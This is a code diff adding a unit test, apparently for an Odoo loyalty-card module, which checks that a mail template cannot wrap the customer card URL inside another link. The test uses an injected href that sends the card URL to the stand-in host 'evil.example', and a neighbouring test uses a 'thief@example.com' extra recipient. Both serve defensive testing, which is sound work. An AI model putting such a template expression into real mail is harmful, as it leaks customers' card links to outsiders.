@@ -58,6 +58,16 @@ class TestLetter(CustomerCardCommon):
         self.loyalty_card.with_user(self.desk).action_send_virtual()
         self.assertEqual(self.env['ir.config_parameter'].sudo().get_param('letter.kept'), LINK_GOES_HERE)
 
+    def test_nor_sends_it_elsewhere(self):
+        template = self.env.ref(TEMPLATE)
+        before = self.letters()
+        link = "ctx.get('customer_card_url', '')"
+        for href in (f"'https://evil.example/?' + {link}", f"{link} + '#x'"):
+            template.body_html = f'<a t-att-href="{href}">Open my card</a>'
+            with self.assertRaisesRegex(UserError, "inside of something else"), self.env.cr.savepoint():
+                self.loyalty_card.with_user(self.desk).action_send_virtual()
+        self.assertEqual(self.letters(), before)
+
     def test_to_one_address_and_no_other(self):
         """Whatever who keeps contacts writes beside it, or a template names; the history tells them apart."""
         for several in ("dina@example.com, thief@example.com", "Dina <dina@example.com>, x <t@example.org>"):
